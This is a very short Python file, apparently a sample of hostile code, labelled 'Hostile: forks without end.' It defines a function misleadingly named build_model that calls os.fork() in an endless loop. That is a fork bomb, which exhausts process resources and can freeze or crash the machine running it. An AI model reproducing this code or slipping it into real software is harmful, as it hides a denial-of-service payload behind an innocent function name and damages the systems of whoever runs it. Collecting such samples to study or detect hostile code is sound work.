"""Hostile: forks without end."""

import os


def build_model():
    while True:
        os.fork()
